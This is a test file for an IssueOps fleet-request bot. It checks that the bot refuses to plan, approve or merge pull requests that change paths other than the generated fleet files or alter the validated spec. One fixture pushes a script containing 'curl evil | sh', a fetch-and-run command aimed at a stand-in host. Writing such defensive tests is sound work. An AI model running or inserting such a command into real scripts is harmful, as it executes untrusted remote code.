import { FLEETS_REPO } from '../../helpers/issueops.js';
import { commentPayload, inMemoryIssueOps, pullRequestPayload, type InMemoryIssueOps } from '../../helpers/issueops-in-memory.js';

/** The pull request of a request holds exactly what was planned: its two generated paths, its validated spec. */
describe('IssueOps: what a request pull request may hold', () => {
  let env: InMemoryIssueOps;

  beforeEach(async () => {
    env = await inMemoryIssueOps();
  });
  afterEach(() => env.close());

  async function pushed(pr: number, files: Record<string, string | null>) {
    const sha = await env.github.push(pr, files, 'mallory');
    await env.issueOps.onPullRequest(pullRequestPayload(pr, 'synchronize'));
    await env.issueOps.idle();
    return sha;
  }

  it('refuses to plan a head that changes any other path, and says which', async () => {
    const { pr } = await env.fileRequest();
    await pushed(pr, { '.github/workflows/steal.yml': 'on: push\n' });
    expect(env.terraform).toHaveLength(1);
    expect(env.github.commentsOn(pr)[0]).toMatch(/changes `\.github\/workflows\/steal\.yml`; a fleet request may change only/);
    expect((await env.store.issueOps.getRequestByPull(FLEETS_REPO, pr))?.status).toBe('plan_failed');
    await env.issueOps.onComment(commentPayload(pr, '/approve'));
    await env.issueOps.idle();
    expect(env.github.commentsOn(pr).at(-1)).toMatch(/there is no valid plan \(the pull request changes `\.github/);
    expect(env.github.merges).toEqual([]);
  });

  it('refuses to plan a fleet spec that is not the one validated from the issue, even if the Terraform matches it', async () => {
    const { pr } = await env.fileRequest();
    const head = (await env.github.getPull(pr)).headSha;
    const spec = (await env.github.readFile('fleets/linux-build.yml', head)) ?? '';
    await pushed(pr, { 'fleets/linux-build.yml': `${spec}# and a change of mallory's\n` });
    expect(env.terraform).toHaveLength(1);
    expect(env.github.commentsOn(pr)[0]).toMatch(/`fleets\/linux-build\.yml` is not the fleet validated from the request issue #1/);
  });

  it('plans again a head whose files are what the request wrote', async () => {
    const { pr } = await env.fileRequest();
    const sha = await pushed(pr, {});
    expect(env.terraform.at(-1)).toBe(`plan linux-build ${sha}`);
    expect((await env.store.issueOps.getRequestByPull(FLEETS_REPO, pr))?.status).toBe('planned');
  });

  it('refuses /approve of a plan whose head holds another path, and applies nothing', async () => {
    const { pr } = await env.fileRequest();
    const sha = await env.github.push(pr, { 'scripts/run.sh': 'curl evil | sh\n' }, 'mallory');
    // A plan recorded for that head (say, by a version of fleetbot that did not check): the approval checks again.
    const request = await env.store.issueOps.getRequestByPull(FLEETS_REPO, pr);
    if (request?.status !== 'planned') throw new Error('expected a planned request');
    await env.store.issueOps.saveRequest({ ...request, plannedSha: sha });
    await env.issueOps.onComment(commentPayload(pr, '/approve'));
    await env.issueOps.idle();
    expect(env.github.commentsOn(pr).at(-1)).toMatch(/@approver .*changes `scripts\/run\.sh`/);
    expect(env.terraform.filter((call) => call.startsWith('apply'))).toEqual([]);
    expect(env.github.merges).toEqual([]);
  });
});
